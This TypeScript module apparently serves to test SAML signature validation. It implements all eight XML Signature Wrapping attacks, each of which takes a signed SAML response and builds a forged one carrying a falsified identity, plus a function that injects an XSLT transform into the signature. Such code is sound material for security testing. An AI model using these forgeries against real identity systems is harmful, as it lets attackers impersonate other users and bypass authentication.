/** The eight ways of wrapping a signature (Somorovsky et al. 2012), on a response whose assertion is signed. */
export const WRAPPINGS: Readonly<Record<string, (response: string) => string>> = {
  // On a signed response the first two put the true response into or beside the signature of a false one.
  xsw1: (text) => {
    const { signature, bare } = outer(text);
    const evil = falsified(bare).replace(/ ID="[^"]*"/, ' ID="_evil_response"');
    return afterIssuer(evil, signature.replace('</ds:Signature>', `<ds:Object>${bare}</ds:Object></ds:Signature>`));
  },
  xsw2: (text) => {
    const { signature, bare } = outer(text);
    const evil = falsified(bare).replace(/ ID="[^"]*"/, ' ID="_evil_response"');
    return afterIssuer(evil, `${bare}${signature}`);
  },
  xsw3: (text) => around(text, ({ assertion, evil }) => `${evil}${assertion}`),
  xsw4: (text) =>
    around(text, ({ assertion, evil }) => evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)),
  xsw5: (text) =>
    around(text, ({ assertion, signature, bareAssertion }) => {
      const evil = falsified(assertion).replace(/ ID="[^"]*"/, ' ID="_evil_assertion"');
      return `${evil}${bareAssertion}`.replace(signature, signature);
    }),
  xsw6: (text) =>
    around(text, ({ assertion, signature, bareAssertion }) => {
      const evil = falsified(assertion).replace(/ ID="[^"]*"/, ' ID="_evil_assertion"');
      return evil.replace(
        signature,
        signature.replace('</ds:Signature>', `<ds:Object>${bareAssertion}</ds:Object></ds:Signature>`),
      );
    }),
  xsw7: (text) => around(text, ({ assertion, evil }) => `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
  xsw8: (text) =>
    around(text, ({ assertion, signature, bareAssertion }) => {
      const evil = falsified(assertion).replace(/ ID="[^"]*"/, ' ID="_evil_assertion"');
      return evil
        .replace(
          signature,
          signature.replace('</ds:Signature>', `<ds:Object>${bareAssertion}</ds:Object></ds:Signature>`),
        )
        .replace('<ds:Object>', '<ds:Object><samlp:Extensions>')
        .replace('</ds:Object>', '</samlp:Extensions></ds:Object>');
    }),
};

interface Parts {
  readonly assertion: string;
  readonly signature: string;
  readonly bareAssertion: string;
  /** A falsified assertion with an ID of its own and no signature. */
  readonly evil: string;
}

function around(text: string, make: (parts: Parts) => string): string {
  const assertion = /<saml:Assertion[\s>].*<\/saml:Assertion>/s.exec(text)?.[0] ?? '';
  const signature = /<ds:Signature[\s>].*<\/ds:Signature>/s.exec(assertion)?.[0] ?? '';
  const bareAssertion = assertion.replace(signature, '');
  const evil = falsified(bareAssertion).replace(/ ID="[^"]*"/, ' ID="_evil_assertion"');
  return text.replace(assertion, () => make({ assertion, signature, bareAssertion, evil }));
}

function outer(text: string) {
  const signature = /^.*?(<ds:Signature[\s>].*?<\/ds:Signature>)/s.exec(text)?.[1] ?? '';
  return { signature, bare: text.replace(signature, '') };
}

function afterIssuer(text: string, inserted: string): string {
  return text.replace('</saml:Issuer>', () => `</saml:Issuer>${inserted}`);
}

/** Somebody else: the name of the person inside becomes that of the attacker. */
function falsified(text: string): string {
  return text.replaceAll('VERA', 'FALSA');
}

/** A transform that computes, where only two harmless ones belong. */
export function withXslt(text: string): string {
  const transform =
    '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><x/></xsl:template></xsl:stylesheet></ds:Transform>';
  return text.replaceAll('<ds:Transforms>', `<ds:Transforms>${transform}`);
}
